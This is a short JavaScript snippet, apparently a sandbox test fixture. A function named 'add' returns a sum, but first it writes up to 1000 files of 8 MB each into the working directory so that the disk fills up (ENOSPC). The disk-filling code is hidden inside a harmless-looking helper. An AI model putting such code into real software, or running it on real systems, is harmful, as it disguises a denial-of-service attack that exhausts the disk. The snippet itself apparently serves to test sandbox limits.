// Fills the working directory (on the sandbox's small tmpfs) with 8 MB files until the disk
// is full: ENOSPC.
const fs = require('fs');
const path = require('path');

var add = function (a, b) {
    const block = Buffer.alloc(8 << 20, 'd');
    for (let n = 0; n < 1000; n++) fs.writeFileSync(path.join(process.cwd(), `fill-${n}`), block);
    return a + b;
};
